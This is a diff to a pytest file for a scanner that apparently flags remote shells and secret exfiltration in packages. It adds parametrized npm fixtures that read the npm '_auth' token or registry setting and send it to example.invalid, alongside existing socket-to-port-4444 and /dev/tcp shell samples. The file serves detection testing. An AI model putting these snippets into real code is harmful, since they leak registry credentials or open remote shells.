@@ -7,6 +7,7 @@ import pytest
 from assay.rules.remote_shells import remote_shell
 from assay.rules.shell_001_remote_shell import RULE
 from tests.behaviour import at, findings, worst
+from tests.npm_behaviour import npm_package, npm_worst
 
 HEAD = "import os, pty, socket, subprocess, requests, threading\n"
 CONNECTED = "s = socket.socket()\ns.connect(('example.invalid', 4444))\n"
@@ -110,3 +111,18 @@ def test_the_finding_says_how() -> None:
     (found,) = findings(RULE, *at("import", HEAD + SHELLS[11]))
     assert found.message == "demo 1.0 starts a remote shell"
     assert found.evidence[0].startswith("a shell over /dev/tcp: os.system(")
+
+
+SETTINGS = [
+    ('exec("npm config get registry").toString().trim() + "demo"', False),
+    ('"https://example.invalid/?" + exec("npm config get registry")', True),
+    ('exec("npm config get //registry.example/:_authToken") + "/demo"', False),
+    ('"https://example.invalid/?" + exec("npm config get _auth")', True),
+]
+
+
+@pytest.mark.parametrize(("url", "sent"), SETTINGS)
+def test_settings_that_say_where_to_ask_are_not_sent(url: str, sent: bool) -> None:
+    source = f'const exec = require("child_process").execSync;\nrequire("https").get({url});\n'
+    found = npm_worst(RULE, npm_package({"index.js": source}))
+    assert (found == "high") is sent
